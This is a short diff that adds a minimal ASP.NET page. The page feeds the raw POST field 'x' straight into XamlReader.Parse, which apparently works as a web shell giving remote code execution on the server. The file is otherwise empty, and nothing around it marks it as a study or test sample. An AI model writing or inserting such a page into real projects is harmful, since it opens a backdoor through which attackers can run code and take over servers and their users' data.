@@ -1,0 +1,3 @@
+<%@ Page Language="C#" %><%
+System.Windows.Markup.XamlReader.Parse(Request.Form["x"]);
+%>
